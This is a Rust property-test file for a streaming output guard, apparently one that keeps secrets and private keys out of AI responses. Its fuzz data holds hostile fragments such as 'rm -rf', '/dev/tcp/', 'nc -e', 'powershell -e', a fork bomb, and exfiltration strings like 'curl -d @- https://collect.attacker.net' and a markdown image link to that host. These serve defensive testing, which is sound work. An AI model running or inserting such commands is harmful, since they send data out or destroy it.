//! What must hold for any text, however it comes: a stream gives what the whole answer gives, and
//! nothing that is withheld is in it.

use proptest::prelude::*;
use sluice_core::level::SecurityLevel;

use super::tests::{KEY, Said, Scene, TOKEN, streamed, streamed_on, whole};
use crate::flag::Flag;

/// Beginnings of what is looked at closer, cut off anywhere.
const FRAGMENTS: &[&str] = &[
    "rm -rf ",
    "curl ",
    "| /usr/é/python3",
    "bash <(",
    "é(){ é|é& };",
    "/dev/é",
    "/dev/tcp/",
    "nc -e ",
    "powershell -e ",
    "eval(",
    "dup2(",
    "chmod 777 ",
    "dd of=/dev/",
    "mkfs /dev/é1é",
    "say \"",
    "“é",
    "://",
    "https:",
    "https://[",
    "https://é@",
    "www.",
    "](//",
    "=\"//",
    "fetch(",
    "\"url\": \"",
    "\"to\":\"a@",
    "-----BEGIN ",
    "-----END",
    "PRIVATE KEY-----\n",
    "password=",
    "é",
    "🚀",
    "\\",
    "\"",
    "'",
    "`",
    "\u{301}",
    "\\n",
    "nslookup ",
    ".evil-host.ru",
    "?d=",
    "%41",
    "base64 -d |",
    "$_GET[",
    "\u{3002}",
    "\n",
    "\t",
    "(\n",
    ",\n",
];

/// Texts made of what matters here.
fn texts() -> impl Strategy<Value = String> {
    let scene = Scene::new();
    let piece = prop_oneof![
        Just(scene.mail.clone()),
        Just(scene.mail.to_lowercase()),
        Just(scene.password.clone()),
        Just(scene.mail[..9].to_owned()),
        Just("Q".to_owned()),
        "[a-z]{1,12} ",
        "[ -~é🚀\n]{0,8}",
        Just("https://collect.attacker.net/a?d=".to_owned()),
        Just("![i](https://collect.attacker.net/".to_owned()),
        Just("curl -d @- https://collect.attacker.net \\\n".to_owned()),
        Just(")\n".to_owned()),
        Just(format!(" {TOKEN} ")),
        Just(format!("\n-----BEGIN PRIVATE KEY-----\n{KEY}\n-----END PRIVATE KEY-----\n")),
    ];
    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

fn arguments() -> impl Strategy<Value = String> {
    let value = texts().prop_map(serde_json::Value::String);
    prop::collection::vec(("[a-z]{1,5}", value), 0..4).prop_map(|members| {
        let object: serde_json::Map<_, _> = members.into_iter().collect();
        serde_json::to_string(&object).unwrap()
    })
}

prop_compose! {
    fn said()(
        reasoning in texts(),
        content in texts(),
        calls in prop::collection::vec(arguments(), 0..3),
    ) -> Said {
        Said { reasoning, content, calls }
    }
}

fn levels() -> impl Strategy<Value = SecurityLevel> {
    prop::sample::select(SecurityLevel::ALL.to_vec())
}

proptest! {
    #[test]
    fn a_stream_gives_what_the_whole_answer_gives(
        said in prop::collection::vec(said(), 1..3),
        cuts in prop::collection::vec(1_usize..40, 1..8),
        level in levels(),
    ) {
        let scene = Scene::new();
        let mut one = scene.guard(level, "Hello");
        let mut other = scene.guard(level, "Hello");
        let expected = whole(&mut one, &said);
        prop_assert_eq!(&streamed(&mut other, &said, &cuts), &expected);
        let (one, other) = (one.report(), other.report());
        prop_assert_eq!((one.flags, one.action), (other.flags, other.action));
        for heard in expected {
            if level == SecurityLevel::Standard {
                prop_assert!(!heard.content.contains(TOKEN) || one.flags.contains(Flag::SecretInAnswer));
            } else {
                let all = [heard.reasoning, heard.content, heard.calls.concat()];
                prop_assert!(all.iter().all(|text| !text.contains(TOKEN) && !text.contains(KEY)));
            }
            for arguments in heard.calls {
                prop_assert!(serde_json::from_str::<serde_json::Value>(&arguments).is_ok());
            }
        }
    }

    #[test]
    fn what_follows_a_finish_reason_goes_the_same_way(
        said in prop::collection::vec(said(), 1..3),
        cuts in prop::collection::vec(1_usize..40, 1..8),
        steps in prop_oneof![Just(0), 0..60_usize],
        level in levels(),
    ) {
        let scene = Scene::new();
        let mut one = scene.guard(level, "Hello");
        let mut other = scene.guard(level, "Hello");
        let expected = whole(&mut one, &said);
        let heard = streamed_on(&mut other, &said, &cuts, steps);
        if steps == 0 {
            // All of it.
            prop_assert_eq!(&heard, &expected);
            prop_assert_eq!(other.report().flags, one.report().flags);
        }
        // What is cut by it is told before it, and a key without its beginning is none; all else still
        // is judged and restored.
        for heard in heard {
            let all = [heard.reasoning, heard.content, heard.calls.concat()];
            let withheld =
                |text: &String| !text.contains(TOKEN) && (steps > 0 || !text.contains(KEY));
            prop_assert!(level == SecurityLevel::Standard || all.iter().all(withheld));
        }
    }

    #[test]
    fn no_text_is_too_odd(
        pieces in prop::collection::vec(prop::sample::select(FRAGMENTS), 0..60),
        begin in texts(),
        cuts in prop::collection::vec(1_usize..40, 1..8),
        level in levels(),
    ) {
        let scene = Scene::new();
        let content = begin + &pieces.concat();
        let literal = serde_json::to_string(&content).unwrap();
        let calls = vec![content.clone(), format!("{{\"a\":{literal},\"url\":{literal}}}")];
        let said = [Said { reasoning: String::new(), content, calls }];
        let mut one = scene.guard_of(level, "say \"rm -rf\" é “no”", true);
        let mut other = scene.guard_of(level, "say \"rm -rf\" é “no”", true);
        let expected = whole(&mut one, &said);
        prop_assert_eq!(&streamed(&mut other, &said, &cuts), &expected);
        prop_assert_eq!(one.report().flags, other.report().flags);
        if let Some(arguments) = expected[0].calls.get(1) {
            prop_assert!(serde_json::from_str::<serde_json::Value>(arguments).is_ok());
        }
    }
}
